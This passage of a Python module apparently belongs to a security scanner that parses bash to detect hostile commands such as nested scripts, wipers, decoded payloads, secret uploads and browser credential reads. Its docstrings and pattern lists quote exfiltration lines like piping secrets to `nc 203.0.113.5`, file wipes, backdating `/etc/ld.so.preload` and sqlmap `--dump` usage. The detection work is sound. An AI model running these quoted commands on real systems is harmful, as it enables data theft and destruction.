"""Shell commands read through tree-sitter-bash: nested scripts, deletions, fork bombs, stores.

The capability patterns already see the text of a command line. What needs the syntax tree is
what a command *does with its arguments*: which paths `rm -r` is given, whether a function runs
itself in a background pipeline, which file `cp` or `sqlite3` reads, and the scripts hidden in
`bash -c '...'`, `eval "..."` and in strings handed to `os.system` or `subprocess`, which are
parsed and judged in turn. A runner or scheduler running what it is given is read as what it
runs: the command behind wrappers and their options (`sudo -u root nice -n 5 rm ...`,
`busybox rm`, `flock LOCK CMD`, `launchctl submit -l X -- CMD`), the script a wrapper is given
(`watch -n 60 '...'`, `flock LOCK -c '...'`), the shell a command starts among its arguments
(`xargs ... sh -c '...'`, `systemd-run ... bash -c '...'`), the script a shell or `at` reads
on standard input from a heredoc, a here-string or a printed string (`echo '...' | at now`),
the commands of cron lines installed by `crontab -` (`echo '@daily ...' | crontab -`), and the
command line an interpreter's one-line program hands to the shell
(`perl -e 'system("...")'`, `python3 -c 'os.system("...")'`), the command line `script -c`,
`cmd /c` or `ssh HOST '...'` runs, and the cron lines a group prints into `crontab -`
(`(crontab -l; echo '...') | crontab -`). A printed string a decoder
turns into the script a shell runs (`echo '...' | rev | bash`, `| xxd -r -p | sh`, rot13 by
`tr`, `base64 -d` however short) is decoded and read with every capability, as a base64
payload is. A pipeline's stages are named past their wrappers (`sudo openssl ... | sh`).
Words are read with bash's quoting undone (`'a'"'"'b'` is `a'b`), and every nested script is
read with every capability (inside quotes the patterns' ends of words do not hold); one whose
spelling differs from the text the patterns read (requoted, escaped quotes, a program's escaped
string literal) is cited at the string that holds it. A pipeline from a command that issues a
new cloud or cluster secret (`az ad sp credential reset`, `kubectl create token`) into an
upload of its standard input reads a secret and sends it; a later stage that sends its
standard input to a host named by its public address (`| ssh 203.0.113.5 'cat > f'`, `| nc
203.0.113.5 PORT`, `ssh ADDRESS 'cat > f' < FILE`) uploads a secret that the stages before it
read by their own arguments; `touch` giving a system file another file's times or a date is
read with its targets.
"""

from __future__ import annotations

import base64
import binascii
import codecs
import re
import shlex
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import TYPE_CHECKING

from redline.redlines.capabilities import PATTERNS, PRIVATE_IPV4, Capability, Hit
from redline.redlines.grammars import CodeLanguage, parse
from redline.redlines.named import name_written

if TYPE_CHECKING:
    from tree_sitter import Node

_WRAPPERS: dict[str, tuple[str, int]] = {
    "sudo": ("ugCDhprtUT", 0),
    "doas": ("uC", 0),
    "runuser": ("ugl", 0),
    "nohup": ("", 0),
    "setsid": ("", 0),
    "env": ("uCS", 0),
    "nice": ("n", 0),
    "ionice": ("cnp", 0),
    "time": ("fo", 0),
    "exec": ("a", 0),
    "stdbuf": ("ioe", 0),
    "timeout": ("sk", 1),
    "chrt": ("", 1),
    "taskset": ("", 1),
    "chroot": ("", 1),
    "xargs": ("aInPLdEs", 0),
    "busybox": ("", 0),
    "watch": ("nd", 0),
    "flock": ("wE", 1),
}
"""Commands that run the command they are given, with the short options that take a value
(`sudo -u root`, `nice -n 10`) and how many operands come before the command run
(`timeout 30`, `chrt 0`, `taskset 0x1`, `chroot /srv/jail`, `flock /tmp/lock`)."""
_CRON_FIELD = r"(?:[\d*/,-]+|[a-z]{3}(?:-[a-z]{3})?)"
_CRON_LINE = re.compile(
    rf"^[ \t]*(?:@\w+|{_CRON_FIELD}(?:[ \t]+{_CRON_FIELD}){{4}})[ \t]+(\S.*)$", re.M | re.I
)
"""A crontab line's schedule (five fields or an `@reboot`-style nickname) and its command."""
_NETWORK_CLIENTS = frozenset({"nc", "ncat", "netcat", "telnet", "openssl", "socat"})
_CREDENTIAL_MINTS: dict[str, tuple[frozenset[str], ...]] = {
    "az": (
        frozenset({"credential", "reset"}),
        frozenset({"keys", "renew"}),
        frozenset({"create-for-rbac"}),
    ),
    "kubectl": (frozenset({"create", "token"}),),
    "aws": (frozenset({"iam", "create-access-key"}), frozenset({"iam", "create-login-profile"})),
    "gcloud": (frozenset({"keys", "create"}),),
}
"""Cloud and cluster commands that issue a new secret and print it (`az ad app credential reset`,
`az ad sp create-for-rbac` with its password, `kubectl create token`, `aws iam
create-access-key`, `gcloud iam service-accounts keys create`), each with the words one of
whose sets the command holds."""
_SYSTEM_FILES = (
    "/etc/", "/usr/lib/", "/usr/lib64/", "/usr/libexec/", "/lib/", "/lib64/", "/usr/bin/",
    "/usr/sbin/", "/bin/", "/sbin/", "/boot/",
)  # fmt: skip
"""Where a system's programs, libraries and configuration live (not a build's staging tree)."""
_TOUCH_TIME_FLAGS = frozenset({"-r", "--reference", "-d", "--date", "-t"})


_SECRETS_SENT = (
    Capability.SECRET_FILE,
    Capability.BROWSER_STORE,
    Capability.TOKEN_STORE,
)
"""What a stage of a pipeline may read that is a secret to send: keys and cloud credentials,
browsers' saved logins and cookies, applications' token stores."""


def _reads_secret(text: str) -> bool:
    """Whether a command's own text names a secret (`_SECRETS_SENT`'s patterns)."""
    return any(pattern.search(text) for secret in _SECRETS_SENT for pattern in PATTERNS[secret])


def _ssh_host(words: list[str]) -> str | None:
    """The host `ssh`'s words name (past its options and their values, a `user@` dropped)."""
    index = 0
    while index < len(words) and words[index].startswith("-"):
        flag = words[index]
        index += 2 if len(flag) == 2 and flag[1] in _SSH_VALUED else 1
    if index >= len(words):
        return None
    return words[index].rsplit("@", 1)[-1]


def _backdates_system_file(words: list[str]) -> bool:
    """`touch -r /bin/ls /usr/lib/libx.so`, `touch -d '2021-03-14' /etc/ld.so.preload`: a
    system file given another file's times or a date of its choosing."""
    timed, skip, targets = False, False, []
    for word in words:
        if skip:
            skip = False
        elif word in _TOUCH_TIME_FLAGS:
            timed, skip = True, True
        elif word.startswith(("--reference=", "--date=")):
            timed = True
        elif not word.startswith("-"):
            targets.append(word)
    return timed and any(t.startswith(_SYSTEM_FILES) for t in targets)


_STDIN_BODY = re.compile(r"(?:^|=)@(?:-|/dev/stdin)$")
"""An upload's body named as what it reads on standard input (`curl -d @-`, `-F f=@-`)."""
_STDIN_TO_FILE = re.compile(
    r"(?:^|[;&|(]|\s)(?:cat\s{0,8}(?:-\s{0,8})?>|tee\s|dd\s[^|;&\n]{0,120}?\bof="
    r"|base64\s{1,8}(?:-d|--decode|-D)\s{0,8}>)"
)
"""A remote command that writes what it reads on standard input to a file (`cat > f`,
`cat - >> f`, `sudo tee f`, `dd of=f`, `base64 -d > f`), anywhere in it (`mkdir -p d; cat >
d/f`)."""
_PUBLIC_ADDRESS = re.compile(rf"(?!127\.|0\.|{PRIVATE_IPV4})\d{{1,3}}(?:\.\d{{1,3}}){{3}}")
"""A public IPv4 address (not loopback, private or unspecified): a host named only by its
address, that no inventory or SSH configuration of one's own names."""
_SSHPASS_VALUED = frozenset({"-p", "-f", "-d", "-P"})
"""sshpass's options that take a value (`sshpass -p PASSWORD ssh ...`)."""
_RAW_SENDERS = frozenset({"nc", "ncat", "netcat"})
"""Network clients that send what they read on standard input to the host they name."""
_LISTENS = re.compile(r"-[a-zA-Z]*[lzL]|--listen|--zero")
"""A network client's listening or port-checking options (`nc -l 9000`, `nc -zv host 22`)."""
_UPLOAD_FILE_FLAGS = frozenset({"-T", "--upload-file", "--post-file"})
_INTERPRETERS = frozenset({"bash", "sh", "zsh", "dash", "ksh", "python", "python3", "perl"})
_SHELLS = frozenset({"bash", "sh", "zsh", "dash", "ksh", "su", "busybox"})
_STDIN_RUNNERS = frozenset({"bash", "sh", "zsh", "dash", "ksh", "busybox", "at", "batch"})
"""Commands that run the script they read on standard input (a shell, or `at` later)."""
_SYSTEM_ROOTS = frozenset(
    {
        "/",
        "/*",
        "~",
        "~/",
        "~/*",
        "$HOME",
        "${HOME}",
        "$HOME/",
        "$HOME/*",
        "/home",
        "/home/*",
        "/etc",
        "/usr",
        "/var",
        "/boot",
        "/bin",
        "/sbin",
        "/lib",
        "/lib64",
        "/root",
        "/srv",
        "/opt",
        "/dev",
        "/sys",
        "/var/lib",
        "/etc/*",
        "/usr/*",
        "/var/*",
        "/boot/*",
        "C:\\",
        "C:/",
        "/mnt",
        "/media",
    }
)
_BACKUP_STORE = re.compile(
    r"^(?:/|~/|\$\{?HOME\}?/)(?!tmp/)(?:\S*/)?[\w.-]*backups?[\w.-]*(?:/\*|/[\w.-]+/\*|/?)$", re.I
)
"""A backup folder outside /tmp, whole or all of its contents (`/var/backups/*`,
`/mnt/nas/db-backups/*`, `/srv/backups/mysql/*`), not one dated set (`/var/backups/2024-*`)."""


_WALKED_ROOT = (
    r"['\"](?:/|~|/home|/etc|/usr|/var|/srv|/root|/opt|/boot|/mnt|/media"
    r"|C:(?:\\\\?|/)(?:Users)?)/?['\"]"
)
_ROOT_WALK = (
    rf"\bos\.walk\s*\(\s*r?{_WALKED_ROOT}|\bPath\s*\(\s*r?{_WALKED_ROOT}\s*\)\s*\.r?glob\b"
    r"|\bglob\.i?glob\s*\(\s*r?['\"](?:/|~|/home|/srv|/etc|/var)/?\*\*"
)
"""A walk over every file under a system or home root (`os.walk('/home')`)."""
_EACH_REMOVED = r"\bos\.(?:remove|unlink)\s*\(|\.unlink\s*\(|\bshutil\.rmtree\s*\("
"""A file or tree removed by Python."""
_WALK_REMOVED = re.compile(
    rf"(?:{_ROOT_WALK})[\s\S]{{0,200}}?(?:{_EACH_REMOVED})|(?:{_EACH_REMOVED})[^\n]{{0,200}}?(?:{_ROOT_WALK})",
    re.I,
)
"""Every file a walk of a root visits removed one by one, in either order (`[os.remove(
os.path.join(r, f)) for r, d, fs in os.walk('/home') for f in fs]`)."""

_SERVICE_DATA = re.compile(
    r"^/var/lib/(?:mysql|mariadb|postgresql|pgsql|mongodb|redis|elasticsearch|cassandra|influxdb|"
    r"clickhouse|couchdb|neo4j|rabbitmq|etcd|docker/volumes)(?:/\S*)?$",
    re.I,
)
"""A database's or service's own data folder (`/var/lib/mysql`, `/var/lib/postgresql/16`)."""
_FIND_SELECTORS = frozenset(
    {"-type", "-xdev", "-mount", "-depth", "-maxdepth", "-mindepth", "-print", "-print0", "-L"}
)
"""`find` options that select no particular files: with only these, every file is taken."""
_FIND_ACTIONS = frozenset({"-exec", "-execdir", "-ok", "-okdir"})
_FIND_GROUPING = frozenset({"(", ")", "\\(", "\\)", "-o", "-or", "-a", "-and"})
"""`find`'s grouping (as the shell hands it, or its escape as written) and joining of tests,
which pick no files themselves."""
_FIND_NAME_TESTS = frozenset({"-name", "-iname"})
_USER_DOCUMENT = re.compile(
    r"^\*\.(?:docx?|xlsx?|pptx?|od[tsp]|pdf|rtf|jpe?g|png|heic|tiff?|psd|mp4|mov|pst|ost|eml"
    r"|numbers|pages|dwg)$",
    re.I,
)
"""A name test for a kind of document, picture or archive people make (`-name '*.docx'`): what
a wiper goes through a home for, where a clean-up names caches and leftovers (`*.pyc`,
`*.tmp`, `.DS_Store`)."""
_FILE_DESTROYERS = frozenset({"rm", "shred", "srm", "wipe", "truncate", "unlink"})
_FILE_SHREDDERS = frozenset({"shred", "srm", "wipe"})


def _following(words: list[str], index: int) -> str:
    """The word after `words[index]`, or "" at the end."""
    return words[index + 1] if index + 1 < len(words) else ""


def _found_and_destroyed(words: list[str]) -> Capability | None:
    """What `find ROOTS ... -delete` or `-exec shred {} +` destroys when no test narrows which
    files (no name, age, size or owner): system or home roots (ROOT_DELETE), every backup
    (SHADOW_DELETE), or a database's own data shredded beyond recovery (ROOT_DELETE);
    `find /var/backups -mtime +14 -delete` prunes and stays allowed. People's documents picked
    by their kind under a system or home root (`find /home -type f \\( -name '*.docx' -o -name
    '*.pdf' \\) -exec shred -u {} +`) are every such root's documents destroyed (ROOT_DELETE);
    those at the top of the root alone (`find ~/ -maxdepth 1 -iname '*.jpg' -exec rm {} +`) are
    one's own files tidied."""
    roots = []
    for word in words:
        if word.startswith("-") or word in ("(", "!"):
            break
        roots.append(word.rstrip("/") or "/")
    rest = words[len(roots) :]
    action = ""
    documents = False
    shallow = False
    index = 0
    while index < len(rest):
        word = rest[index]
        if word == "-delete":
            action = "rm"
        elif word in _FIND_ACTIONS and index + 1 < len(rest):
            runner = rest[index + 1]
            runner = rest[index + 2] if runner == "sudo" and index + 2 < len(rest) else runner
            action = runner.rsplit("/", 1)[-1]
            break
        elif word in ("-type", "-maxdepth", "-mindepth"):
            shallow = shallow or (word == "-maxdepth" and _following(rest, index) in ("0", "1"))
            index += 1
        elif word in _FIND_NAME_TESTS and _USER_DOCUMENT.match(_following(rest, index)):
            documents = True  # people's documents by their kind: what a wiper takes
            index += 1
        elif word not in _FIND_SELECTORS and word not in _FIND_GROUPING:
            return None  # a test picks some files: pruning, not destroying
        index += 1
    if action not in _FILE_DESTROYERS or not roots:
        return None
    if documents and shallow:
        return None  # a root's own top-level pictures or documents (`-maxdepth 1`): tidying
    if any(_system_root(r) for r in roots):
        return Capability.ROOT_DELETE
    if documents:
        return None  # a folder's own documents of a kind removed: tidying, or a secure erase
    if any(_BACKUP_STORE.match(r) or _BACKUP_STORE.match(r + "/") for r in roots):
        return Capability.SHADOW_DELETE
    if action in _FILE_SHREDDERS and any(_SERVICE_DATA.match(r) for r in roots):
        return Capability.ROOT_DELETE
    return None


_INJECTION_TOOLS = frozenset({"sqlmap", "sqlmap.py", "ghauri", "commix", "commix.py"})
_EXTRACTION_FLAGS = re.compile(
    r"^--(?:dump(?:-all)?|passwords|os-(?:shell|pwn|cmd|bof)|sql-shell|sql-query|file-(?:read|write)"
    r"|reg-read|priv-esc|all)(?:=|$)"
)
"""An injection tool told to take data or a shell, not only to test whether a parameter is
injectable (`--dump`, `--passwords`, `--os-shell`, `--file-read`)."""
_TARGET_FLAGS = frozenset({"-u", "--url"})
_LAB_HOST = re.compile(
    r"^(?:localhost|127(?:\.\d{1,3}){3}|\[?::1\]?|0\.0\.0\.0|10(?:\.\d{1,3}){3}|192\.168(?:\.\d{1,3}){2}"
    r"|172\.(?:1[6-9]|2\d|3[01])(?:\.\d{1,3}){2}|[\w-]+|[\w.-]+\.(?:local|localhost|lan|test|internal|lab"
    r"|home\.arpa|corp)|(?:testphp|testasp|testaspnet|testhtml5)\.vulnweb\.com|demo\.testfire\.net)$",
    re.I,
)
"""Hosts that are one's own or made to be attacked: loopback, private addresses, a bare
service name (`http://dvwa/`), the reserved and internal suffixes, public practice targets."""


_URL_HOST = re.compile(r"^(?:[a-z][\w+.-]*://)?(?:[^@/\s]*@)?(\[[^\]]*\]|[^:/?#\s]+)", re.I)


def _target_host(words: list[str]) -> str | None:
    """The host of the URL an injection tool is given (`-u URL`, `--url=URL`), or None."""
    for index, word in enumerate(words):
        url = None
        if word in _TARGET_FLAGS and index + 1 < len(words):
            url = words[index + 1]
        elif word.startswith(("--url=", "-u=")):
            url = word.split("=", 1)[1]
        elif word.startswith("-u") and len(word) > 2 and "://" in word:
            url = word[2:]
        if url:
            match = _URL_HOST.match(url)
            return match.group(1) if match else None
    return None


def _injects_into_other_site(name: str, words: list[str]) -> bool:
    """`sqlmap -u https://shop.example.com/item?id=1 --dump`: an injection tool taking data or a
    shell from a site that is neither one's own machine or network nor a practice target."""
    if name in _INTERPRETERS and words and words[0].rsplit("/", 1)[-1] in _INJECTION_TOOLS:
        name, words = words[0].rsplit("/", 1)[-1], words[1:]
    if name not in _INJECTION_TOOLS or not any(_EXTRACTION_FLAGS.match(w) for w in words):
        return False
    host = _target_host(words)
    return host is not None and not _LAB_HOST.match(host)


def _system_root(word: str) -> bool:
    """A system or home root, or all of its contents (`/srv/*`, `/opt/*`)."""
    return word in _SYSTEM_ROOTS or (word.endswith("/*") and word[:-2] in _SYSTEM_ROOTS)


_STORE_READERS = frozenset(
    {
        "cp",
        "cat",
        "sqlite3",
        "tar",
        "zip",
        "7z",
        "scp",
        "strings",
        "base64",
        "xxd",
        "rsync",
        "curl",
        "mv",
        "copy",
        "xcopy",
        "robocopy",
        "Copy-Item",
        "cpi",
        "Get-Content",
        "esentutl",
    }
)
_PROFILE_FILES = re.compile(
    r"(?:^|[\\/])(?:Bookmarks(?:\.bak)?|Preferences|Secure Preferences|Favicons|Top Sites"
    r"|bookmarks\.html|places\.sqlite|prefs\.js|extensions\.json|handlers\.json"
    r"|profiles\.ini|installs\.ini|compatibility\.ini|times\.json)$",
    re.I,
)
"""Files of a browser profile that hold no passwords, cookies or keys (bookmarks, settings),
and Firefox's list of its profiles (`profiles.ini`, `installs.ini`)."""


def _tr_set(spec: str) -> str:
    """The characters of one of `tr`'s sets, its ranges spelled out (`a-c` is "abc")."""
    out: list[str] = []
    index = 0
    while index < len(spec):
        if index + 2 < len(spec) and spec[index + 1] == "-" and spec[index] <= spec[index + 2]:
            out.extend(chr(c) for c in range(ord(spec[index]), ord(spec[index + 2]) + 1))
            index += 3
        else:
            out.append(spec[index])
            index += 1
    return "".join(out)


_LETTERS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"


def _rotates_letters(first: str, second: str) -> bool:
    """Whether `tr FIRST SECOND` rotates every letter by thirteen (rot13, in any spelling)."""
    source, target = _tr_set(first), _tr_set(second)
    if len(source) != len(target):
        return False
    table = dict(zip(source, target, strict=True))
    return all(table.get(c) == codecs.encode(c, "rot13") for c in _LETTERS)


def _from_hex(text: str) -> str:
    """The text a hex dump spells (`xxd -r -p`), or "" when it is not one."""
    try:
        return bytes.fromhex("".join(text.split())).decode("utf-8")
    except (ValueError, UnicodeDecodeError):
        return ""


def _from_base64(text: str) -> str:
    """The text a base64 word spells (`base64 -d`), or "" when it is not one."""
    try:
        return base64.b64decode("".join(text.split()), validate=True).decode("utf-8")
    except (binascii.Error, ValueError):
        return ""


def _is_store(word: str) -> bool:
    return any(p.search(word) for p in PATTERNS[Capability.BROWSER_STORE])


_SECRET_FILES = re.compile(
    r"logins\.json|key[34]\.db|signons|cookies\.sqlite|Login Data|Cookies|Local State"
    r"|Web Data|cert9\.db",
    re.I,
)
"""Files of a browser profile that hold its passwords, cookies or keys."""
_SCRATCH = re.compile(r"^(?:/tmp/|/var/tmp/|/dev/shm/|%TEMP%|\$env:TEMP|\$\{?TMPDIR)", re.I)


def _archive_path(name: str, words: list[str]) -> str | None:
    """The archive `tar -czf PATH`, `zip -r PATH` or `7z a PATH` creates, when it creates one."""
    if name == "tar":
        # flag clusters: tar's first word (`czf`) or a dashed one (`-czf`, `-f`)
        clusters = [
            w
            for i, w in enumerate(words)
            if not w.startswith("--") and w.lstrip("-").isalpha() and (i == 0 or w[0] == "-")
        ]
        if not any("c" in c for c in clusters) and "--create" not in words:
            return None
        for index, word in enumerate(words[:-1]):
            if word == "--file" or (word in clusters and word.endswith("f")):
                return words[index + 1]
            if word.startswith("--file="):
                return word.removeprefix("--file=")
        return None
    if name in ("zip", "7z"):
        rest = [w for w in words if not w.startswith("-")]
        if name == "7z":
            return rest[1] if len(rest) > 1 and rest[0] == "a" else None
        return rest[0] if rest else None
    return None


_RECURSIVE_COPY = re.compile(r"^(?:-[a-zA-Z]*[raR][a-zA-Z]*|--recursive|--archive)$")
"""A flag of `cp` or `rsync` that copies a whole folder (`-r`, `-R`, `-a`, `-av`, `--archive`)."""


def _copy_destination(name: str, words: list[str]) -> str | None:
    """The folder on this machine that `cp -r`/`rsync -a` copies a folder into, when it copies
    a whole folder there (None for a copy to another host: `rsync -a DIR user@host:path`)."""
    if name not in ("cp", "rsync") or not any(_RECURSIVE_COPY.match(w) for w in words):
        return None
    paths = [w for w in words if not w.startswith("-")]
    if len(paths) < 2 or ":" in paths[-1] or "@" in paths[-1]:
        return None
    return paths[-1]


def _profile_backed_up(name: str, words: list[str]) -> bool:
    """Whether an archiver packs a whole browser profile into a visible archive of its own
    (`tar czf ~/backups/firefox-$(date +%F).tgz -C ~/.mozilla/firefox PROFILE`), or a copy
    puts the whole profile folder into a visible folder on the machine (`cp -r
    ~/.mozilla/firefox/PROFILE ~/backups/firefox-$(date +%F)`): a backup kept on the machine,
    where a theft picks the secret files out (`logins.json`, `key4.db`, `Login Data`) or packs
    or copies into a hidden or scratch place, or to another host, to send on."""
    path = _archive_path(name, words) or _copy_destination(name, words)
    if not path or path == "-" or _SCRATCH.match(path) or _is_store(path):
        return False
    if any(part.startswith(".") and part not in (".", "..") for part in re.split(r"[\\/]", path)):
        return False
    return not any(_SECRET_FILES.search(w) for w in words if w != path)


def _reads_store(name: str, words: list[str]) -> bool:
    """Whether a reader given `words` reads a browser's credential store: a profile named,
    unless only its bookmarks or settings are (`cp .../Default/Bookmarks`, `robocopy
    .../Default/Bookmarks DEST`, robocopy's file filter `robocopy PROFILE DEST Bookmarks
    Preferences`), or the whole profile is packed into a backup archive of its own
    (`_profile_backed_up`)."""
    stores = [w for w in words if _is_store(w)]
    if not stores:
        return False
    if _profile_backed_up(name, words):
        return False
    if all(_PROFILE_FILES.search(w.rstrip("/\\")) for w in stores):
        return False  # only a profile's bookmarks, settings or list of profiles named
    if name.lower() == "robocopy":
        filters = [w for w in words[2:] if not w.startswith("/")]
        return not filters or not all(_PROFILE_FILES.search(w) for w in filters)
    return True


_CODE_FLAGS = {
    "python": "-c",
    "python2": "-c",
    "python3": "-c",
    "perl": "-e",
    "ruby": "-e",
    "php": "-r",
    "node": "-e",
    "nodejs": "-e",
}
"""Interpreters and the flag that gives them a one-line program (`perl -e 'CODE'`)."""
_PYTHON_SHELL_CALLS = r"os\.system|os\.popen|subprocess\.\w+|check_output|check_call|Popen"
"""The Python calls that hand a command line to the system's shell (alternatives of a regex)."""
_LITERAL_COMMAND = r"\s*\(\s*f?(['\"])((?:\\.|(?!\1)[^\\\n])+)\1"
"""A call's opening literal string (an f-string's too), the command line as group 2."""
_PROGRAM_SHELL_STRINGS = re.compile(
    rf"\b(?:{_PYTHON_SHELL_CALLS}|system|exec(?:Sync)?|spawnSync|popen|shell_exec|passthru"
    rf"|proc_open){_LITERAL_COMMAND}"
)
"""A literal command line a program hands to the system's shell, in Python, Perl, Ruby, PHP
or Node."""
_ESCAPED = re.compile(r"\\([\\'\"$@`])")
"""A character escaped inside a program's string literal (`\\'`, `\\"`, Perl's `\\$`, `\\@`)."""
_PYTHON_SHELL_STRINGS = re.compile(rf"(?:{_PYTHON_SHELL_CALLS}){_LITERAL_COMMAND}")
"""A literal command line a Python program hands to the system's shell; the call is found
inside a longer name too (no word boundary before it, unlike `_PROGRAM_SHELL_STRINGS`)."""


def _word_value(raw: str) -> str:
    """The value bash gives a word: its quotes removed, the escapes of a double-quoted string
    undone and quoted pieces joined (`'a'"'"'b'` is `a'b`)."""
    if "'" not in raw and '"' not in raw:
        return raw
    inner = raw[1:-1]
    if len(raw) >= 2 and raw[0] == raw[-1] == "'" and "'" not in inner:
        return inner
    if len(raw) >= 2 and raw[0] == raw[-1] == '"' and '"' not in inner and "\\" not in inner:
        return inner
    try:
        parts = shlex.split(raw)
    except ValueError:
        return raw.strip("'\"")
    return parts[0] if len(parts) == 1 else raw.strip("'\"")


def _arguments(node: Node, source: bytes) -> list[tuple[str, Node]]:
    words: list[tuple[str, Node]] = []
    for child in node.children:
        if child.type in (
            "word",
            "string",
            "raw_string",
            "concatenation",
            "number",
            "simple_expansion",
            "expansion",
        ):
            text = source[child.start_byte : child.end_byte].decode("utf-8", "replace")
            words.append((_word_value(text), child))
    return words


_ASSIGNMENT = re.compile(rb"[A-Za-z_]\w*=")


def _is_assignment(node: Node, source: bytes) -> bool:
    """Whether an argument is an environment assignment (`LANG=C`, `FOO="a b"`), not a quoted
    script that holds one (`watch 'SSH_AUTH_SOCK=... ssh ...'`)."""
    return _ASSIGNMENT.match(source, node.start_byte) is not None


def _unwrapped(node: Node, source: bytes) -> tuple[str, list[tuple[str, Node]]]:
    """The command `node` runs and its arguments, past wrappers: `sudo rm -rf /etc` runs rm."""
    name = _command_name(node, source)
    arguments = _arguments(node, source)
    if name == "launchctl" and arguments and arguments[0][0] == "submit":
        # `launchctl submit -l LABEL -- PROGRAM ARGS...` runs PROGRAM
        words = [word for word, _ in arguments]
        if "--" in words and words.index("--") + 1 < len(words):
            rest = arguments[words.index("--") + 1 :]
            name, arguments = rest[0][0].rsplit("/", 1)[-1], rest[1:]
    while name in _WRAPPERS and arguments:
        takes_value, operands = _WRAPPERS[name]
        # skipping the wrapper's options (with their values) and environment assignments
        while arguments and (
            arguments[0][0].startswith("-") or _is_assignment(arguments[0][1], source)
        ):
            word, arguments = arguments[0][0], arguments[1:]
            if word == "--":
                break
            if len(word) == 2 and word[1] in takes_value and arguments:
                arguments = arguments[1:]
        arguments = arguments[operands:] if len(arguments) > operands else []
        if not arguments:
            break
        # (a string with spaces is a script to run, not a path: `watch 'rm -rf /etc'`)
        word = arguments[0][0]
        name, arguments = word if " " in word else word.rsplit("/", 1)[-1], arguments[1:]
    return name, arguments


def _stdin_runner(node: Node, source: bytes) -> str | None:
    """What `node` does with the text on its standard input: "script" when a shell or `at`
    runs it, "crontab" when `crontab -` installs it as cron lines, else None."""
    name, arguments = _unwrapped(node, source)
    if name in _STDIN_RUNNERS:
        return "script"
    if name == "crontab" and [word for word, _ in arguments] in ([], ["-"]):
        return "crontab"
    return None


def _handed_script(arguments: list[tuple[str, Node]]) -> tuple[str, Node] | None:
    """The script of a shell that a command's arguments start (`... sh -c 'SCRIPT'`)."""
    for index in range(len(arguments) - 2):
        word = arguments[index][0]
        if word.rsplit("/", 1)[-1] in _SHELLS and arguments[index + 1][0] == "-c":
            return arguments[index + 2]
    return None


_SSH_VALUED = frozenset("bcDEeFIiJLlmOopQRSWw")
"""ssh's short options that take a value (`-p 22`, `-i KEY`, `-o Opt=x`, `-J jump`)."""


def _command_argument(name: str, arguments: list[tuple[str, Node]]) -> tuple[str, Node] | None:
    """The command line a program is given to run: `script`'s `-c`, `cmd`'s `/c` or `/k`,
    PowerShell's `-c`/`-Command`, the remote command of `ssh HOST COMMAND...` (joined when
    given as several words)."""
    words = [word for word, _ in arguments]
    if name == "script":
        for index, word in enumerate(words[:-1]):
            if word == "--command" or (re.fullmatch(r"-[a-z]*c", word) is not None):
                return arguments[index + 1]
        return None
    if name.lower() in ("cmd", "cmd.exe") and len(words) >= 2 and words[0].lower() in _CMD_RUN:
        if len(words) == 2:
            return arguments[1]
        return " ".join(words[1:]), arguments[1][1]
    if name.lower() in _POWERSHELLS:
        # `powershell -c "Copy-Item ..."`: the command after `-c`/`-Command` (its options before)
        flags = [
            i for i, w in enumerate(words) if w.lower() in ("-c", "-command", "/c", "/command")
        ]
        if not flags or flags[0] + 1 >= len(words):
            return None
        # (Windows hands PowerShell its command line with `\"` for a quote inside the quotes)
        rest = arguments[flags[0] + 1 :]
        return " ".join(word for word, _ in rest).replace('\\"', '"'), rest[0][1]
    if name != "ssh":
        return None
    index = 0
    while index < len(words) and words[index].startswith("-"):
        flag = words[index]
        index += 2 if len(flag) == 2 and flag[1] in _SSH_VALUED else 1
    rest = arguments[index + 1 :]  # past the host
    if not rest:
        return None
    if len(rest) == 1:
        return rest[0]
    return " ".join(word for word, _ in rest), rest[0][1]


_INNERMOST = 3
"""The depth at which a reader reads no script nested further (`_Reader.nested`)."""
_POWERSHELLS = frozenset({"powershell", "powershell.exe", "pwsh", "pwsh.exe"})
"""Windows PowerShell and PowerShell 7, whose `-Command` runs the rest of the line."""
_CMD_RUN = ("/c", "/k", "/r")
"""cmd's switches that run the rest of the line (`cmd /c "..."`)."""


def _command_name(node: Node, source: bytes) -> str:
    name = node.child_by_field_name("name")
    if name is None:
        return ""
    return source[name.start_byte : name.end_byte].decode("utf-8", "replace").rsplit("/", 1)[-1]


class _Reader:
    """Walks one bash tree, collecting structural hits with character offsets."""

    def __init__(self, text: str, offset: int, depth: int) -> None:
        self.text = text
        self.source = text.encode("utf-8")
        self.ascii = len(self.source) == len(text)
        self.offset = offset
        self.depth = depth
        self.hits: list[Hit] = []
        # Byte spans of search and kill arguments (see `read_shell`); only for ASCII scripts.
        self.references: list[tuple[int, int]] = []

    def position(self, byte: int) -> int:
        if self.ascii:
            return self.offset + byte
        return self.offset + len(self.source[:byte].decode("utf-8", "replace"))

    def hit(self, capability: Capability, node: Node) -> None:
        start, end = self.position(node.start_byte), self.position(node.end_byte)
        self.hits.append(
            Hit(capability, start, end, self.text[start - self.offset : end - self.offset])
        )

    def nested(self, script: str, node: Node, shift: int = 0) -> None:
        # The inner script is read as a script of its own, with every capability: the patterns
        # read it as part of the outer command, but inside quotes (`sh -c '... auditbeat'`), and
        # its structure (its own commands, deletions, functions) is new. A script whose
        # spelling in the outer text differs (quotes closed and reopened, escaped quotes:
        # `sh -c 'a '"'"'b'"'"''`) is cited at the string that holds it.
        from redline.redlines.code import code_hits

        depth = self.depth + 1
        self._placed(script, node, shift, lambda s, at: code_hits(s, CodeLanguage.BASH, at, depth))

    def nested_commands(self, script: str, node: Node) -> None:
        """The structural hits of an inner script whose text this line's patterns already read
        (`read_shell`, not `code_hits`), placed as `nested` places them. Its own inner scripts
        are not read again (read at the deepest level): what PowerShell runs is PowerShell,
        which the shell's reading only approximates."""
        self._placed(script, node, 0, lambda s, at: read_shell(s, at, _INNERMOST)[0])

    def _placed(
        self, script: str, node: Node, shift: int, read: Callable[[str, int], list[Hit]]
    ) -> None:
        """The hits `read` finds in the inner `script` held by `node`, placed where the script
        stands (`shift` characters into the string), or cited at the whole string when the
        outer text spells the script otherwise; none beyond the innermost level."""
        if self.depth >= _INNERMOST:
            return
        raw = self.source[node.start_byte : node.end_byte].decode("utf-8", "replace")
        if script not in raw:
            start, end = self.position(node.start_byte), self.position(node.end_byte)
            quoted = self.text[start - self.offset : end - self.offset]
            for hit in read(script, 0):
                self.hits.append(Hit(hit.capability, start, end, quoted))
            return
        inner_start = (
            self.position(node.start_byte)
            + (1 if node.type in ("string", "raw_string") else 0)
            + shift
        )
        self.hits.extend(read(script, inner_start))

    def command(self, node: Node) -> None:
